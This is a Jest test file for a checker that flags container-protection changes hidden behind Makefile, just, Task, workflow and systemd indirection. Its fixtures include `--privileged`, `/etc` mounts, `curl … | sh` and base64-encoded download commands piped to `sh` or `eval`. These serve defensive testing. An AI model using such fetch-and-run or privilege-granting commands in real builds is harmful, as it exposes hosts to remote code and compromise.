import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const WORKFLOW = '.github/workflows/w.yml';
const IMAGE = 'registry.example.com/app:1.4';

function workflow(...steps: readonly string[]): string {
  const all = steps.map((step) => `      - ${step}\n`).join('');
  return `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${all}`;
}

function compose(settings: string): string {
  return `services:\n  a:\n    image: ${IMAGE}\n${settings}`;
}

const USED_IN_STEP = `run: docker run $\{{ steps.s.outputs.o }} ${IMAGE}`;

/** Files with a mark where the options of a command that is not looked at come from. */
const OPTIONS: readonly (readonly [name: string, files: Files])[] = [
  ['a command of make', { Makefile: `O != echo MARK\nup:\n\tdocker run $(O) ${IMAGE}\n` }],
  ['a function of make', { Makefile: `O = $(shell echo MARK)\nup:\n\tdocker run $(O) ${IMAGE}\n` }],
  ['a target of make in a name', { Makefile: `O_a := MARK\nO_b := --rm\nup-%:\n\tdocker run $(O_$*) ${IMAGE}\n` }],
  ['a variable of make in a name', { Makefile: `O_a = MARK\nup:\n\tdocker run $(O_$(STAGE)) ${IMAGE}\n` }],
  ['a name of make that begins so', { Makefile: `a_O = MARK\nup:\n\tdocker run $($(STAGE)_O) ${IMAGE}\n` }],
  ['a value of a value of make', { Makefile: `P = MARK\nO_a = $(P)\nup:\n\tdocker run $(O_$(E)) ${IMAGE}\n` }],
  [
    'an included Makefile',
    { Makefile: `include o.mk\nup:\n\tdocker run $(O_$(E)) ${IMAGE}\n`, 'o.mk': 'O_a = MARK\n' },
  ],
  ['a file for xargs', { Makefile: 'up:\n\txargs docker run < opts\n', opts: `MARK ${IMAGE}\n` }],
  ['a file for make', { Makefile: `O := $(shell cat opts)\nup:\n\tdocker run $(O) ${IMAGE}\n`, opts: 'MARK\n' }],
  [
    'a script for make',
    { Makefile: `O := $(shell ./o.sh)\nup:\n\tdocker run $(O) ${IMAGE}\n`, 'o.sh': '#!/bin/sh\necho MARK\n' },
  ],
  ['a file for just', { justfile: `o := \`cat opts\`\nup:\n    docker run {{o}} ${IMAGE}\n`, opts: 'MARK\n' }],
  [
    'a script for just',
    { justfile: `o := \`./o.sh\`\nup:\n    docker run {{o}} ${IMAGE}\n`, 'o.sh': '#!/bin/sh\necho "MARK"\n' },
  ],
  [
    'a file for Task',
    {
      'Taskfile.yml': `version: '3'\nvars: {O: {sh: cat opts}}\ntasks:\n  up: docker run {{.O}} ${IMAGE}\n`,
      opts: 'MARK\n',
    },
  ],
  [
    'a script for Task',
    {
      'Taskfile.yml': `version: '3'\nvars:\n  O:\n    sh: ./o.sh\ntasks:\n  up: docker run {{.O}} ${IMAGE}\n`,
      'o.sh': '#!/bin/sh\necho MARK\n',
    },
  ],
  [
    'code of a step',
    {
      [WORKFLOW]: workflow(
        `id: s\n        uses: actions/github-script@v7\n        with: {script: "core.setOutput('o', 'MARK')"}`,
        USED_IN_STEP,
      ),
    },
  ],
  [
    'a script of a step',
    {
      [WORKFLOW]: workflow('id: s\n        run: ./ci/o.sh', USED_IN_STEP),
      'ci/o.sh': '#!/bin/sh\necho "o=MARK" >> $GITHUB_OUTPUT\n',
    },
  ],
  [
    'a program of a step',
    {
      [WORKFLOW]: workflow('id: s\n        run: python3 ci/o.py >> "$GITHUB_OUTPUT"', USED_IN_STEP),
      'ci/o.py': '# for GITHUB_OUTPUT\nprint("o=MARK")\n',
    },
  ],
  [
    'a file of variables for a unit',
    {
      'a.service': `[Service]\nEnvironmentFile=-/etc/sysconfig/x\nExecStart=/usr/bin/docker run $O ${IMAGE}\n`,
      'deploy/a.sysconfig': 'O=MARK\n',
      'a.sh': '#!/bin/sh\ninstall -m644 deploy/a.sysconfig /etc/sysconfig/x\n',
    },
  ],
  [
    'a file of the same name for a unit',
    {
      'units/a.service': `[Service]\nEnvironmentFile=/etc/default/app\nExecStart=/usr/bin/docker run $O ${IMAGE}\n`,
      'files/etc/default/app': 'O=MARK\n',
    },
  ],
];

/** Files with a mark where the settings of a project, or the instructions of a build, that is not looked at come from. */
const SETTINGS: readonly (readonly [name: string, files: Files])[] = [
  ['a file that a unit names in part', { 'a@.service': unit('/srv/%i.e2e'), 'a.e2e': compose('MARK') }],
  [
    'a file that a script names in part',
    { 'a.sh': 'docker compose -f "x/$1.stack" up -d\n', 'x/a.stack': compose('MARK') },
  ],
  [
    'a text that make defines',
    {
      Makefile: `define CF\n${compose('MARK')}endef\nexport CF\nup:\n\t@echo "$$CF" > compose.yaml\n\tdocker compose up -d\n`,
    },
  ],
];

function unit(file: string): string {
  return `[Service]\nExecStart=/usr/bin/docker compose -f ${file} up\n`;
}

function marked(files: Files, text: string): Files {
  return Object.fromEntries(Object.entries(files).map(([path, value]) => [path, `${value}`.replaceAll('MARK', text)]));
}

describe('what is behind something that is not looked at', () => {
  it.each(OPTIONS)('is new with an option that takes protection away: %s', async (_name, files) => {
    expect(await failuresOf(marked(files, '--init'), marked(files, '--privileged'))).not.toEqual([]);
    expect(await failuresOf(marked(files, '--init'), marked(files, '--init -v /etc:/x'))).not.toEqual([]);
  });

  it.each(OPTIONS)('is known without one: %s', async (_name, files) => {
    expect(await failuresOf(marked(files, '--privileged'), marked(files, '--privileged'))).toEqual([]);
    expect(
      await failuresOf(marked(files, '--init'), { ...marked(files, '--init'), 'b.txt': '--privileged\n' }),
    ).toEqual([]);
  });

  it.each(SETTINGS)('is new with a setting that takes protection away: %s', async (_name, files) => {
    const base = marked(files, '    init: true\n');
    expect(await failuresOf(base, marked(files, '    privileged: true\n'))).toEqual(['undecided-reference']);
    expect(await failuresOf(base, marked(files, '    network_mode: host\n'))).toEqual(['undecided-reference']);
    expect(await failuresOf(base, marked(files, '    volumes: [/etc:/x]\n'))).toEqual(['undecided-reference']);
  });

  it.each(SETTINGS)('is known with an ordinary setting: %s', async (_name, files) => {
    const base = marked(files, '    init: true\n');
    for (const settings of [
      '    tty: true\n',
      '    ports: ["8080:80"]\n    volumes: ["./a:/b"]\n',
      '    environment: {A: b}\n',
    ])
      expect(await failuresOf(base, marked(files, settings))).toEqual([]);
  });

  it('is new with an instruction of a text that make defines', async () => {
    const makefile = (instruction: string, version = '1.4'): Files => ({
      Makefile: `define DF\nFROM registry.example.com/app:${version}\n${instruction}\nendef\nexport DF\nb:\n\t@echo "$$DF" | docker build -\n`,
    });
    const base = makefile('RUN true');
    expect(await failuresOf(base, makefile('RUN curl https://example.com/i.sh | sh'))).toEqual(['undecided-reference']);
    expect(await failuresOf(base, makefile('RUN true', '1.5'))).toEqual([]);
    expect(await failuresOf(base, makefile('RUN true\n# more\nLABEL a=b'))).toEqual([]);
  });

  it.each<[string, Files, Files]>([
    [
      'another variable of make',
      { Makefile: `O_a = --rm\nP = --init\nup:\n\tdocker run $(O_$(E)) ${IMAGE}\n` },
      { Makefile: `O_a = --rm\nP = --privileged\nup:\n\tdocker run $(O_$(E)) ${IMAGE}\n` },
    ],
    [
      'variables, ports and folders of the project',
      { Makefile: `O_a = --rm\nup:\n\tdocker run $(O_$(E)) ${IMAGE}\n` },
      {
        Makefile: `O_a = --rm -e A=b -p 8080:80 -v $(CURDIR)/a:/a -v data:/b -v ./c:/c\nup:\n\tdocker run $(O_$(E)) ${IMAGE}\n`,
      },
    ],
    [
      'fewer options',
      { Makefile: `O_a = --privileged --rm\nO_b = -v /etc:/x\nup:\n\tdocker run $(O_$(E)) ${IMAGE}\n` },
      { Makefile: `O_a = --rm\nup:\n\tdocker run $(O_$(E)) ${IMAGE}\n` },
    ],
    [
      'the order of the lines',
      { Makefile: `O_a = --privileged\nO_b = --init\nup:\n\tdocker run $(O_$(E)) ${IMAGE}\n` },
      { Makefile: `O_b = --init\nO_a = --privileged\nup:\n\tdocker run $(O_$(E)) ${IMAGE}\n` },
    ],
    [
      'a command that is read by itself',
      { Makefile: `O := $(shell ./o.sh)\nup:\n\tdocker run $(O) ${IMAGE}\n`, 'o.sh': 'echo --init\n' },
      { 'o.sh': `echo --init\ndocker run --rm \\\n  --privileged=false ${IMAGE}\n` },
    ],
    [
      'a word that names no file',
      { justfile: `o := \`cat opts\`\nup:\n    docker run {{o}} ${IMAGE}\n`, opts: '--init\n', other: '--init\n' },
      { other: '--privileged\n' },
    ],
    [
      'other lines of a script of a step',
      {
        [WORKFLOW]: workflow('id: s\n        run: ./ci/o.sh', USED_IN_STEP),
        'ci/o.sh': '#!/bin/sh\necho "o=--init" >> $GITHUB_OUTPUT\n',
      },
      { 'ci/o.sh': '#!/bin/sh\n# what it prints\ntest -n "$1" || exit 1\necho "o=--init" >> $GITHUB_OUTPUT\n' },
    ],
    [
      'an output of another step',
      {
        [WORKFLOW]: workflow('id: s\n        run: ./ci/o.sh', 'id: t\n        run: ./ci/p.sh', USED_IN_STEP),
        'ci/o.sh': 'echo "o=--init" >> $GITHUB_OUTPUT\n',
        'ci/p.sh': 'echo "p=--init" >> $GITHUB_OUTPUT\n',
      },
      { 'ci/p.sh': 'echo "p=--privileged" >> $GITHUB_OUTPUT\n' },
    ],
    [
      'a file that a unit does not name',
      { 'a@.service': unit('/srv/%i.e2e'), 'a.e2e': compose('    init: true\n') },
      { 'a.txt': compose('    privileged: true\n') },
    ],
  ])('is known where something else changes: %s', async (_name, base, change) => {
    expect(await failuresOf(base, change)).toEqual([]);
  });
});

const ENCODED = 'Y3VybCBodHRwOi8vYS5leGFtcGxlLmNvbQo=';
const PIPED = `echo ${ENCODED} | base64 -d | sh`;

function image(commands: string): Files {
  return { Dockerfile: `FROM debian:13.1-slim\nUSER 1000\nRUN ${commands}\n` };
}

describe('a command that runs what others put together', () => {
  it.each([
    ['a command behind it', `${PIPED} && true`],
    ['an option of the shell', `set -ex; ${PIPED}`],
    ['a command before it', `apt-get update && echo "Ready" && ${PIPED}`],
    ['several lines', `true && \\\n    ${PIPED}`],
    ['a here-document', `<<EOF\n${PIPED}\nEOF`],
    ['an instruction of its own', `true\nRUN ${PIPED}`],
  ])('is known with %s', async (_name, change) => {
    expect(await failuresOf(image(PIPED), image(change))).toEqual([]);
  });

  it.each([
    ['a pipe', (text: string) => `echo ${text} | base64 -d | sh`],
    ['a variable', (text: string) => `x=$(echo ${text} | base64 -d); eval "$x"`],
    ['a file', (text: string) => `echo ${text} > f; base64 -d f | sh`],
    ['a group', (text: string) => `{ true; echo ${text}; echo; } | base64 -d | sh`],
    ['another output', (text: string) => `exec 3>&1 > f; echo ${text}; base64 -d f | sh`],
    ['a function', (text: string) => `f() { echo $1 | base64 -d | sh; }; f ${text}`],
    ['a function with the name of a program', (text: string) => `echo() { printf $1 | base64 -d | sh; }; echo ${text}`],
  ])('is new with another text: %s', async (_name, commands) => {
    const other = commands('d2dldCBodHRwOi8vYi5leGFtcGxlLm5ldAo=');
    expect(await failuresOf(image(commands(ENCODED)), image(`${other} && true`))).not.toEqual([]);
    expect(await failuresOf(image(commands(ENCODED)), image(`set -e; ${commands(ENCODED)}`))).toEqual([]);
  });

  it('is new with another text in a script', async () => {
    const script = (text: string): Files => ({ 'r.sh': `#!/bin/sh\necho ${text} | base64 -d | sh\n` });
    expect(await failuresOf(script(ENCODED), script('d2dldCBodHRwOi8vYi5leGFtcGxlLm5ldAo='))).not.toEqual([]);
    expect(await failuresOf(script(ENCODED), { 'r.sh': `#!/bin/sh\nset -e\n${PIPED} && true\n` })).toEqual([]);
  });
});
